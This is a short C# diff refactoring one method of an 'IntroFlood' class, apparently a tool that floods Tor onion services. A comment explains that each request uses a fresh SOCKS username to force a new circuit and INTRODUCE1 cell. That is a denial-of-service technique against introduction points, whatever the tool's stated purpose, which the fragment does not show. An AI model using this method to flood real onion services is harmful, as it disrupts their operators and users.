@@ -43,18 +43,12 @@ public sealed class IntroFlood(IReadOnlyList<TorProcess> clients, Uri url, int w
         }
     }
 
+    /// <summary>One attempt: <see cref="OnionHttp"/> gives every request a new SOCKS username, so a new circuit and INTRODUCE1.</summary>
     private async Task<bool> OnceAsync(int socksPort, CancellationToken ct)
     {
-        var proxy = new WebProxy(new Uri($"socks5://127.0.0.1:{socksPort}"))
-        {
-            Credentials = new NetworkCredential("flood-" + Guid.NewGuid().ToString("N"), "x"),
-        };
-        using var handler = new SocketsHttpHandler { Proxy = proxy, UseProxy = true, PooledConnectionLifetime = TimeSpan.Zero };
-        using var http = new HttpClient(handler) { Timeout = AttemptTimeout };
         try
         {
-            using var r = await http.GetAsync(url, ct);
-            return r.StatusCode == HttpStatusCode.OK;
+            return (await OnionHttp.GetAsync(socksPort, url, AttemptTimeout, ct)).Status == HttpStatusCode.OK;
         }
         catch (Exception e) when (e is HttpRequestException or TaskCanceledException or IOException && !ct.IsCancellationRequested)
         {
